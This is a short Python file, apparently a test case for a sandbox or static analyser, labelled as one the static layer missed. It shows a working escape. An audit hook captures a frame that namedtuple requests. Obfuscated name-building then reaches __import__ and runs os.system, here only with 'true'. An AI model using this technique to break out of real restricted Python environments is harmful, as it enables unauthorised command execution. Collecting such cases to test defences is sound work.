# family: frames
# reaches: process
# layer: static
# static: missed
# An audit hook receives the frame that namedtuple asks sys._getframe for; the frame's
# builtins hold __import__.
import collections
import sys

captured = []


def watch(event, args):
    if event == "sys._getframe" and not captured:
        captured.append(args[0])


sys.addaudithook(watch)
collections.namedtuple("Point", "x y")


def field(frame, kind):
    return getattr(frame, "f_" + kind)


def dunder(word):
    return "__%s__" % word


table = field(captured[0], "builtins")
table[dunder("import")]("os").system("true")
